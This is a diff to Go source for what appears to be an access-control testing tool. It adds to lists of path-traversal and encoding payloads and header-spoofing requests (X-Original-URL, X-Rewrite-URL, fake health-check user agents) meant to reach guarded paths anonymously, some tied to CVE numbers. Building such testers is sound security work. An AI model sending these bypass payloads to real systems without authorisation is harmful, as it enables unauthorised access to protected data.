@@ -14,11 +14,11 @@ func pathLines(open, closed string) []string {
 	for _, dots := range []string{
 		"/..;/", "/..;x=y/", "/.;/..;/", "/;/../", ";/../", ";x/../", "/x;/../../",
 		"/%2e%2e/", "/%2E%2E/", "/.%2e/", "/%2e./", "/%2e%2e;/", "/%2e%2e%2f", "/..%2f", "/..%2F", "%2f../", "%2f..%2f", "/%2f../../",
-		"/%252e%252e%252f", "/%252e%252e/", "/..%252f", "/%25252e%25252e%25252f",
+		"/%252e%252e%252f", "/%252e%252e/", "/..%252f",
 		"/../", "/./../", "//../", "/x/../../", "//x/../../../", "/.//../",
 		`\..\`, `/..\`, `\../`, "/..%5c", "%5c..%5c", "/..%255c", "/%2e%2e%5c",
 		"/..%00/", "%00/../", "/%00/../../", "/..%09/", "/..%0d%0a/", "/..%20/", "/..%23/", "/..%3f/", "/..%3b/",
-		"/%c0%ae%c0%ae/", "/..%c0%af", "%c0%af..%c0%af", "/%e0%80%ae%e0%80%ae/", "/%u002e%u002e/", "/..%u2215", "/.%",
+		"/%c0%ae%c0%ae/", "/..%c0%af", "%c0%af..%c0%af", "/%e0%80%ae%e0%80%ae/", "/%u002e%u002e/", "/..%u002f", "/.../../../", "/...%20/../../",
 	} {
 		lines = append(lines, o+dots+c)
 	}
@@ -52,7 +52,7 @@ func pathLines(open, closed string) []string {
 }
 
 // pathAttacks: nobody asks for a guarded path in words that look like a public
-// one. `GET /public/..;/guarded/secret`
+// one. `GET /public/..;/guarded/secret`.
 func pathAttacks(t *Target) []Attack {
 	var out []Attack
 	for _, open := range []struct {
@@ -75,7 +75,7 @@ func pathAttacks(t *Target) []Attack {
 }
 
 // pathHeaderAttacks: nobody asks for a guarded path, and a header says that it is
-// another, or that nobody is somebody. `GET /guarded/x` + `X-Forwarded-Uri: /public/x`
+// another, or that nobody is somebody. `GET /guarded/x` + `X-Forwarded-Uri: /public/x`.
 func pathHeaderAttacks(t *Target) []Attack {
 	var out []Attack
 	inPublic := func(t *Target) string { return t.Public }
@@ -91,7 +91,9 @@ func pathHeaderAttacks(t *Target) []Attack {
 		"X-Envoy-Original-Path", "X-Request-URI", "X-Replaced-Path", "Referer",
 	} {
 		add("header-"+strings.ToLower(name), []string{"CVE-2026-40575"}, anonymous(closed, Field{name, t.Public + "x"}))
-		add("header-on-public-"+strings.ToLower(name), []string{"CVE-2018-14773"}, anonymous(t.Public+"x", Field{name, closed}), public)
+	}
+	for _, name := range pathOverrides {
+		add("override-"+strings.ToLower(name), []string{"CVE-2018-14773"}, anonymous(t.Public+"x", Field{name, closed}), public)
 	}
 	for _, f := range []Field{
 		{"User-Agent", "GoogleHC/1.0"}, {"User-Agent", "kube-probe/1.31"}, {"User-Agent", "ELB-HealthChecker/2.0"},
@@ -121,6 +123,10 @@ func pathHeaderAttacks(t *Target) []Attack {
 	return out
 }
 
+// pathOverrides are headers whose URL some frameworks serve in place of the
+// request's: Symfony and Zend did, IIS with its rewrite module does.
+var pathOverrides = []string{"X-Original-URL", "X-Rewrite-URL"}
+
 // handshakeAttacks: a WebSocket handshake is a request like any other.
 func handshakeAttacks(t *Target) []Attack {
 	request := handshake(t.Guarded + "secret")
@@ -146,7 +152,7 @@ func policyAttacks(t *Target) []Attack {
 		"/" + p + "%2fsecret", "/%2f" + p + "/secret", "/" + p + `\secret`, `\` + p + `\secret`, "/" + p + "%5csecret", "/" + p + "%00/secret",
 		"/" + escapeFirst(p) + "/secret", "/" + doubleEscapeFirst(p) + "/secret",
 		"/" + strings.ToUpper(p) + "/secret", "/" + strings.ToUpper(p[:1]) + p[1:] + "/Secret",
-		"/" + p + "/secret/", "/" + p + "/%73ecret", "/" + p + "/secret;x", "/" + p + "/secret%20", "/" + p + "%20/secret", "/" + p + "/secret%00.css",
+		"/" + p + "/secret/", "/" + p + "/%73ecret", "/" + p + "/secret;x", "/" + p + "/secret%20", "/" + p + "%20/secret", "/" + p + "./secret", "/" + p + "/secret.", "/" + p + "/secret%00.css",
 		"/" + p + "/secret?x", "/" + p + "/secret#x", "/" + p + "/secret%23x", "/" + p + "/secret%3fx",
 		"http://{host}/" + p + "/secret", "http://{host}/x/../" + p + "/secret", t.Public + "../" + p + "/secret", t.Optional + "..;/" + p + "/secret",
 		"/" + p + "/%c0%ae/secret", "/x/%c0%ae%c0%ae/" + p + "/secret",
@@ -157,7 +163,7 @@ func policyAttacks(t *Target) []Attack {
 			ID: "policy/path-" + strconv.Itoa(i), Mechanism: policyMechanism, Needs: []Control{policy}, Request: get(line), Judge: inside,
 		})
 	}
-	for _, name := range []string{"X-Original-URL", "X-Rewrite-URL"} {
+	for _, name := range pathOverrides {
 		out = append(out, Attack{
 			ID: "policy/header-" + strings.ToLower(name), Mechanism: policyMechanism, Advisories: []string{"CVE-2018-14773"},
 			Needs: []Control{policy}, Request: get(t.Guarded+"x", Field{name, t.Phone + "secret"}), Judge: inside,
